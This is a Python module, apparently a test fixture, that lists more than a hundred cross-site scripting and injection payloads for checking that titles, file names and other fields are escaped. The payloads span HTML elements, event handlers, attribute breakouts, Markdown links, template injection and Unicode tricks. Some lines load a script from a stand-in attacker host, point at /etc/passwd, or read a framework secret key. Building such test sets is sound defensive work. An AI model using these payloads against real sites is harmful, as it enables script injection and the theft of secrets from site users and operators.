"""Strings that run as a script, or break out of their place, wherever they are not escaped.

Each is one line without control characters, so that it may be a title or a file name too.
"""

from typing import Final

_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</mark></p></main><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
)
_HANDLERS: Final = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=background:url(javascript:alert(1)) onclick=alert(1)>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<x onpointerenter=alert(1) contenteditable>x</x>",
    "<form id=x></form><button form=x onclick=alert(1)>x",
)
_ATTRIBUTES: Final = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1) //",
    '" autofocus onfocus=alert(1) "',
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://e.example",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
_MARKDOWN: Final = (
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript://e.example/%0aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    '[x](https://e.example/"onmouseover=alert(1))',
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "[x](https://e.example \"a' onmouseover='alert(1)\")",
    "[x](https://e.example '\"><script>alert(1)</script>')",
    "[x](https://e.example (<img src=x onerror=alert(1)>))",
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "[x](https://e.example/<script>alert(1)</script>)",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](x)',
    "![](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<javascript:alert(1)>",
    '<https://e.example/"onclick=alert(1)//>',
    "<data:text/html,alert(1)>",
    '<a@e.example"onclick=alert(1)>',
    "[x]: javascript:alert(1)",
    '[x][y] [y]: <javascript:alert(1)> "t"',
    '[x](#m1) [x](#__proto__) [x](#"onclick=alert(1))',
    "`<script>alert(1)</script>`",
    '``` "><script>alert(1)</script>',
    "~~~ '><img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "# <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "\\<script\\>alert(1)\\</script\\>",
    "[a](https://e.example)<script>alert(1)</script>[b](https://e.example)",
    "*<b onmouseover=alert(1)*>",
)
_TEMPLATES: Final = (
    "{{ 7*7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{# x #}{% include 'admin/base.html' %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
_UNICODE: Final = (
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<\u200bscript>alert(1)</\u200bscript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "[x](java\u200bscript:alert(1))",
    "[x](\u2003javascript:alert(1))",
    "[x](javascript\uff1aalert(1))",
    "[شرح](javascript:alert(1)) 😀<b onclick=alert(1)>",
    "\U000e0001\U000e003cscript\U000e003e e\u0301<img src=x onerror=alert(1)>",
)

STRINGS: Final[tuple[str, ...]] = (
    *_ELEMENTS, *_HANDLERS, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES, *_UNICODE,
)  # fmt: skip
"""More than a hundred, all different."""

SIXTY: Final = tuple(STRINGS[at * len(STRINGS) // 60] for at in range(60))
"""Sixty of all kinds, for pages that take longer."""

THREES: Final = tuple(SIXTY[at : at + 3] for at in range(0, len(SIXTY), 3))
"""All the sixty, three at a time: in a third of the time where a page holds several."""
